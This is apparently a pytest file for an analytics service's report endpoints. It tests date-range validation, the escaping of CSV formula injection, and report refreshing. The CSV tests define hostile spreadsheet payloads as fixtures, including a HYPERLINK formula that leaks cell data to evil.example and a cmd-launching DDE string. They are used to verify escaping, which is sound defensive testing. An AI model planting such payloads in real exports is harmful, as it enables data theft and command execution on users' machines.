"""Report parameters a client controls, through ``/v1/reports``, the dashboard and
``stagecoach report`` (issue 17): dates out of range are a 400 (exit 2 in the CLI), never
a 500 or a traceback; names that a spreadsheet would run as formulas are escaped in CSV;
and a request a report refuses does not keep the numbers from refreshing."""

from __future__ import annotations

import base64
import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine
from sqlmodel import Session
from structlog.testing import capture_logs
from typer.testing import CliRunner

from stagecoach.engine.api.routes.events import create_write_key
from stagecoach.engine.cli import app as cli
from stagecoach.engine.services.analytics import Section
from stagecoach.engine.services.analytics.service import csv_cell, section_csv
from stagecoach.engine.services.storage.models import Contact, StageTransition
from stagecoach.engine.settings import Settings
from tests.engine.api.test_reports_api import ADMIN, TOKEN, _seed
from tests.helpers import migrated_engine


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings(
        data_dir=tmp_path,
        admin_token=TOKEN,
        database_url=f"sqlite:///{tmp_path / 'stagecoach.db'}",
        dashboard_cache_seconds=0,
    )


@pytest.fixture
def engine(settings: Settings) -> Iterator[Engine]:
    db = migrated_engine(settings.resolved_database_url)
    _seed(db)
    yield db
    db.dispose()


@pytest.fixture
def db_engine(engine: Engine) -> Engine:
    """The shared ``api`` fixture is built on this module's seeded database file."""
    return engine


# --- dates out of range ----------------------------------------------------------------


OUT_OF_RANGE = [
    {"since": "99999999d"},
    {"since": "999999999999999999999d"},
    {"since": "9999999999h"},
    {"since": "36500d"},  # 1926: before anything is stored
    {"until": "0001-01-01"},
    {"until": "0001-01-01T00:00:00+08:00"},  # before year 1 once in UTC
    {"until": "9999-12-31"},
    {"since": "1999-12-31"},
    {"until": "2100-01-02"},
]


@pytest.mark.parametrize("params", OUT_OF_RANGE, ids=[str(p) for p in OUT_OF_RANGE])
def test_a_date_out_of_range_is_400_naming_it_and_the_range(
    api: TestClient, params: dict[str, str]
) -> None:
    [name] = params
    for path, more in (
        ("/v1/reports/funnel", {}),
        ("/v1/reports/conversion", {"steps": "page.viewed,order.paid"}),
    ):
        response = api.get(path, params={**params, **more}, headers=ADMIN)
        assert response.status_code == 400, response.text
        detail = response.json()["detail"]
        assert f"{name}=" in detail
        assert "2000-01-01" in detail
        assert "2100-01-01" in detail
        assert "Fix:" in detail


def test_the_edges_of_the_range_are_answered(api: TestClient) -> None:
    edges = {"since": "2000-01-01", "until": "2100-01-01"}
    response = api.get("/v1/reports/funnel", params=edges, headers=ADMIN)
    assert response.status_code == 200, response.text
    # An until in 2000 takes its default since no earlier than the range allows.
    early = api.get("/v1/reports/funnel", params={"until": "2000-01-05"}, headers=ADMIN)
    assert early.status_code == 200, early.text


def _sign_in(client: TestClient) -> None:
    response = client.post(
        "/dashboard/login",
        content=f"token={TOKEN}&next=/dashboard",
        headers={"content-type": "application/x-www-form-urlencoded"},
        follow_redirects=False,
    )
    assert response.status_code == 303, response.text


@pytest.mark.parametrize(
    ("query", "named"),
    [
        ("until=0001-01-01", "until"),
        ("until=9999-12-31", "until"),
        ("since=0001-01-01", "since"),
        ("since=1999-12-31&until=2026-01-01", "since"),
        ("until=2100-01-01", "until"),  # until is included: its day ends in 2100
    ],
)
@pytest.mark.parametrize("page", ["/dashboard", "/dashboard/journeys"])
def test_the_dashboard_refuses_a_date_out_of_range_with_a_400_page(
    api: TestClient, page: str, query: str, named: str
) -> None:
    _sign_in(api)
    response = api.get(f"{page}?{query}")
    assert response.status_code == 400, response.text[:300]
    assert f"{named}=" in response.text
    assert "2000-01-01" in response.text
    assert "2099-12-31" in response.text


def test_the_dashboard_still_shows_the_last_day_of_the_range(api: TestClient) -> None:
    _sign_in(api)
    response = api.get("/dashboard?since=2099-12-01&until=2099-12-31")
    assert response.status_code == 200, response.text[:300]


@pytest.mark.parametrize("args", [["--since", "99999999d"], ["--until", "0001-01-01"]])
def test_the_cli_says_which_date_is_out_of_range_and_exits_2(
    settings: Settings, engine: Engine, monkeypatch: pytest.MonkeyPatch, args: list[str]
) -> None:
    monkeypatch.setenv("STAGECOACH_DATA_DIR", str(settings.data_dir))
    monkeypatch.setenv("STAGECOACH_DATABASE_URL", settings.resolved_database_url)
    result = CliRunner().invoke(cli, ["report", "funnel", *args])
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    [line] = result.stderr.strip().splitlines()
    assert line.startswith("error: ")
    assert args[0].removeprefix("--") + "=" in line
    assert "2000-01-01" in line


# --- CSV formula injection ---------------------------------------------------------------

HOSTILE_EVENT = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
HOSTILE_CAMPAIGN = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_names_a_spreadsheet_would_run_come_out_as_text_in_csv(
    api: TestClient, engine: Engine
) -> None:
    key = create_write_key(engine, "website")
    auth = {"Authorization": "Basic " + base64.b64encode(f"{key}:".encode()).decode()}
    now = datetime.now(UTC).isoformat()
    # (Event names are stripped when stored: a leading tab or CR never reaches a report.)
    for n, event in enumerate([HOSTILE_EVENT, "-2+3", "+cmd", "@SUM(A1)"]):
        response = api.post(
            "/v1/track",
            json={
                "userId": f"u-evil-{n}",
                "event": event,
                "timestamp": now,
                "messageId": f"m-evil-{n}",
                "context": {"campaign": {"source": HOSTILE_CAMPAIGN, "name": "x"}},
            },
            headers=auth,
        )
        assert response.status_code == 200, response.text

    drop_off = api.get(
        "/v1/reports/paths", params={"format": "csv", "section": "drop_off"}, headers=ADMIN
    )
    assert drop_off.status_code == 200, drop_off.text
    last_events = {r["last_event"] for r in csv.DictReader(io.StringIO(drop_off.text))}
    assert "'" + HOSTILE_EVENT in last_events
    assert {"'-2+3", "'+cmd", "'@SUM(A1)"} <= last_events
    assert not any(e.startswith(("=", "+", "-", "@", "\t", "\r")) for e in last_events)

    channels = api.get(
        "/v1/reports/channels",
        params={"format": "csv", "by": "campaign", "since": "30d"},
        headers=ADMIN,
    )
    assert channels.status_code == 200, channels.text
    assert "'" + HOSTILE_CAMPAIGN in channels.text
    for row in csv.reader(io.StringIO(channels.text)):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row


def test_numbers_stay_numbers_in_csv() -> None:
    section = Section(
        "s",
        ("name", "delta", "share"),
        [("-x", -3, -0.25), ("ok", 4, 0.5), ("\t=1+1", 0, 0.0), ("\r=1+1", 1, 1.0)],
    )
    rows = list(csv.reader(io.StringIO(section_csv(section), newline="")))
    assert rows == [
        ["name", "delta", "share"],
        ["'-x", "-3", "-0.25"],
        ["ok", "4", "0.5"],
        ["'\t=1+1", "0", "0.0"],
        ["'\r=1+1", "1", "1.0"],
    ]
    assert csv_cell("") == ""
    assert csv_cell(None) is None
    assert csv_cell("a=b") == "a=b"


# --- a refused request does not freeze the numbers ---------------------------------------


def test_a_refused_report_does_not_keep_the_numbers_from_refreshing(
    api: TestClient, engine: Engine
) -> None:
    reports = api.app.state.reports  # type: ignore[attr-defined]
    first = api.get("/v1/reports/funnel", headers=ADMIN)
    assert first.status_code == 200
    reports.wait(30)
    eleven = ",".join("abcdefghijk")
    refused = api.get("/v1/reports/conversion", params={"steps": eleven}, headers=ADMIN)
    assert refused.status_code == 400, refused.text
    reports.wait(30)

    with Session(engine) as session:  # a new suspect arrives
        session.add(Contact(id="c9", stage="suspect"))
        session.add(
            StageTransition(
                key="c9:1", contact_id="c9", to_stage="suspect", reason="seed", source="test"
            )
        )
        session.commit()
    with capture_logs() as logs:
        api.get("/v1/reports/funnel", headers=ADMIN)  # due: a copy starts in the background
        reports.wait(30)
    assert not [e for e in logs if e["event"] == "report numbers not refreshed"], logs
    after = api.get("/v1/reports/funnel", headers=ADMIN).json()
    width = {r["stage"]: r["now"] for r in after["sections"]["width"]["rows"]}
    assert width["suspect"] == 2  # c3 and the newcomer
